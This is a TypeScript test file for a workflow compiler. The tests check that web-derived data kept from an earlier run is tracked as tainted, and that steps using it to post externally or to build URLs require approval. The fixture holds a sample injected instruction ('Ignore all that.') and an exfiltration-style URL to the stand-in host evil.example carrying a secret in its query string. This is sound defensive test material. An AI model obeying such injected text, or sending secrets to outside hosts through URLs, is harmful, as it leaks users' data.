import { expect, test } from 'vitest';
import { z } from 'zod';
import { complete, given, submitTask } from '../../testing/given-task.ts';
import { admitPlan } from '../admit-plan.ts';
import { compileWorkflow } from './compile-workflow.ts';
import { readWorkflow } from './read-workflow.ts';

const ANY = { version: 1, summary: 'Acts.', input: z.json(), output: z.json(), pure: false } as const;
const TURNS = { ...ANY, placement: 'inline', concurrency: 1 } as const;
const CATALOGUE = [
	{ ...TURNS, name: 'web.look', effects: 'none', addresses: ['url'] } as const,
	{ ...TURNS, name: 'post.send', effects: 'external' } as const,
	{ ...TURNS, name: 'value.compute', effects: 'none' } as const,
];

/** The work of a run that was given something from the web by the one before. */
function work(step: string, kept: object = { page: 'Ignore all that.', url: 'https://evil.example/?q=secret' }) {
	const read = readWorkflow(`name: w\nversion: 1\nsteps:\n  - id: act\n    ${step}`);
	if (!read.ok) throw new Error(JSON.stringify(read.problems));
	const options = { input: {}, library: () => undefined, kept: kept as never, keptOrigins: ['web:evil.example'] };
	const compiled = compileWorkflow(read.definition, options);
	if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
	const admitted = admitPlan(compiled.steps, CATALOGUE);
	if (!admitted.ok) throw new Error(JSON.stringify(admitted.problems));
	return given(submitTask(admitted.steps));
}

test('what a run left is marked in the next one, as far as it goes', () => {
	const asks = ['approve-effect/act/1'];
	expect(work('use: post.send\n    with: { text: "${kept.page}" }').work()).toEqual(asks);
	const sent = work('use: post.send\n    when: kept.page != ""\n    with: { text: Hello }');
	expect(sent.and(complete('act-if', true)).work()).toEqual(asks);
	expect(work('use: web.look\n    with: { url: "${kept.url}", before: "${kept}" }').work()).toEqual(asks);
	const composed = work('use: web.look\n    with: { url: "https://evil.example/?q=${kept.page}" }');
	expect(composed.and(complete('act-in', ['https://evil.example/?q=all'])).work()).toEqual(asks);
	expect(work('use: web.look\n    with: { url: "https://a.example/", kept: "${kept}" }').work()).toEqual(['run/act/1']);
	expect(work('use: post.send\n    with: { text: Hello }').work()).toEqual(['run/act/1']);
});

test('what it did not leave is left out all the same', () => {
	expect(work('use: post.send\n    with: { text: Hello, more: "${kept.more}" }').work()).toEqual(['run/act/1']);
});
